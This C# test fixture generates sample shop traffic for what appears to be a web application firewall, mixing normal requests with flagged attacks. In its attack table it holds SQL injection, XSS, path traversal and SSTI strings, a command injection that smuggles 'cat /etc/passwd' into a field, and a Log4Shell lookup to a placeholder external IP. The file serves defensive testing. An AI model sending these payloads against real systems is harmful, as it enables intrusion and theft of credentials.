using System.Text.Json;
using Weir.Server.Findings;
using Weir.Server.Stores.Lake;

namespace Weir.Browser.Tests;

/// <summary>Some hundred requests to a small shop, the same for the same seed: people who buy, a scanner, an attacker.</summary>
internal sealed class SampleTraffic(int seed, DateTimeOffset now)
{
    /// <summary>Where the shop's own people edit pages, which looks like an attack.</summary>
    public const string EditorPath = "/admin/pages";

    private static readonly (string Path, string Route)[] s_pages =
    [
        ("/", "/"), ("/search", "/search"), ("/cart", "/cart"), ("/login", "/login"), ("/products/rubber-boots", "/products/{name}"), ("/orders/1841", "/orders/{id}"), ("/static/shop.css", "/static/{file}"),
    ];

    private static readonly (string Class, string Where, string Sent, string Fragment, string Path, string Route)[] s_attacks =
    [
        ("sqli", "query:q", "boots%27+union+select+password+from+users--", "boots' union select password from users--", "/search", "/search"),
        ("sqli", "query:id", "1841%20or%201%3D1", "1841 or 1=1", "/orders/1841", "/orders/{id}"),
        ("xss", "query:q", "%3Cscript%3Ealert(1)%3C%2Fscript%3E", "<script>alert(1)</script>", "/search", "/search"),
        ("xss", "query:next", "%253Cimg%2520src%253Dx%2520onerror%253Dalert(1)%253E", "<img src=x onerror=alert(1)>", "/login", "/login"),
        ("traversal", "query:file", "..%2F..%2F..%2Fetc%2Fpasswd", "../../../etc/passwd", "/download", "/download"),
        ("rce", "query:host", "127.0.0.1%3Bcat+%2Fetc%2Fpasswd", "127.0.0.1;cat /etc/passwd", "/admin/ping", "/admin/ping"),
        ("log4shell", "header:user-agent", "${jndi:ldap://203.0.113.9/a}", "${jndi:ldap://203.0.113.9/a}", "/", "/"),
        ("ssti", "query:name", "%7B%7B7*7%7D%7D", "{{7*7}}", "/cart", "/cart"),
    ];

    private readonly Random _random = new(seed);

    public IEnumerable<RequestRow> Rows(int count)
    {
        for (int i = 0; i < count; i++)
        {
            // Denser towards the present, with a burst of attacks three hours ago.
            double ago = Math.Pow(_random.NextDouble(), 1.5) * 23;
            bool isAttack = _random.NextDouble() < (ago is > 2.5 and < 3.5 ? 0.7 : 0.12);
            var time = now.AddHours(-ago);
            yield return isAttack ? Attack(i, time) : Plain(i, time);
        }
    }

    /// <summary>An attack that pages and tests can rely on.</summary>
    public RequestRow Attack(int number, DateTimeOffset time, int? which = null)
    {
        var attack = s_attacks[which ?? _random.Next(s_attacks.Length)];
        double score = which is null ? 0.35 + (0.65 * Math.Sqrt(_random.NextDouble())) : 0.9987;
        var severity = score switch { > 0.95 => Severity.Critical, > 0.8 => Severity.High, > 0.6 => Severity.Medium, _ => Severity.Low };
        bool isBlocked = severity >= Severity.High;
        bool isHeader = attack.Where.StartsWith("header:", StringComparison.Ordinal);
        string name = attack.Where[(attack.Where.IndexOf(':', StringComparison.Ordinal) + 1)..];
        return new RequestRow
        {
            Time = time,
            Id = Id(number),
            Client = number % 3 == 0 ? "203.0.113.66" : number % 3 == 1 ? "198.51.100.23" : "2001:db8::bad:cafe",
            Method = "GET",
            Host = "shop.example",
            Path = attack.Path,
            Route = attack.Route,
            Place = attack.Where,
            Status = isBlocked ? 403 : 200,
            Action = isBlocked ? "block" : "pass",
            Score = score,
            Severity = severity.ToString(),
            Class = attack.Class,
            Micros = 8 + (_random.NextDouble() * 20),
            Evidence = JsonSerializer.Serialize(new[] { new { where = attack.Where, fragment = attack.Fragment, @class = attack.Class, share = 0.94 } }),
            Model = "http-1",
            Head = JsonSerializer.Serialize(new
            {
                query = isHeader ? [] : new[] { new[] { "page", "2" }, [name, attack.Sent] },
                headers = new[] { new[] { "Host", "shop.example" }, ["User-Agent", isHeader ? attack.Sent : "Mozilla/5.0 (X11; Linux x86_64) Gecko/20100101 Firefox/141.0"], ["Accept", "text/html"], ["Cookie", "***"] },
            }),
        };
    }

    /// <summary>The shop's own people change a page, with a script in it.</summary>
    public IEnumerable<RequestRow> Edits(int count) => Enumerable.Range(0, count).Select(i => new RequestRow
    {
        Time = now.AddMinutes(-40 + (3 * i)),
        Id = Id(800_000 + i),
        Client = "10.0.0.12",
        Method = "POST",
        Host = "shop.example",
        Path = EditorPath,
        Route = EditorPath,
        Place = "form:html",
        Status = 403,
        Action = "block",
        Score = 0.985,
        Severity = nameof(Severity.Critical),
        Class = "xss",
        Micros = 21,
        Evidence = JsonSerializer.Serialize(new[] { new { where = "form:html", fragment = "<script>document.cookie='sale=seen';setTimeout(function(){document.getElementById('sale').remove()},5000)</script>", @class = "xss", share = 1 } }),
        Model = "http-1",
        Head = JsonSerializer.Serialize(new { query = Array.Empty<string[]>(), headers = new[] { new[] { "Host", "shop.example" }, ["Content-Type", "application/x-www-form-urlencoded"], ["Cookie", "***"] } }),
    });

    /// <summary>What the gateway would have found.</summary>
    public static Finding Finding(RequestRow row) => new()
    {
        Time = row.Time,
        Request = row.Id,
        Client = row.Client,
        Host = row.Host,
        Route = row.Route ?? row.Path,
        Method = row.Method,
        Path = row.Path,
        Place = row.Place ?? "request",
        Class = AttackClasses.TryParse(row.Class, out var found) ? found : AttackClass.Other,
        Severity = Enum.Parse<Severity>(row.Severity),
        Score = row.Score,
        Action = row.Action,
        Evidence = row.Evidence,
    };

    private RequestRow Plain(int number, DateTimeOffset time)
    {
        var (path, route) = s_pages[_random.Next(s_pages.Length)];
        bool isRefused = _random.NextDouble() < 0.03;
        return new RequestRow
        {
            Time = time,
            Id = Id(number),
            Client = $"192.0.2.{_random.Next(1, 40)}",
            Method = _random.NextDouble() < 0.2 ? "POST" : "GET",
            Host = "shop.example",
            Path = path,
            Route = route,
            Status = isRefused ? 400 : 200,
            Action = isRefused ? "refuse" : "pass",
            Score = Math.Pow(_random.NextDouble(), 6) * 0.3,
            Severity = "None",
            Flags = isRefused ? "BrokenBody" : null,
            Micros = 2 + (_random.NextDouble() * 4),
            Model = "http-1",
        };
    }

    private static string Id(int number) => $"0sample{number:0000000000000}";
}
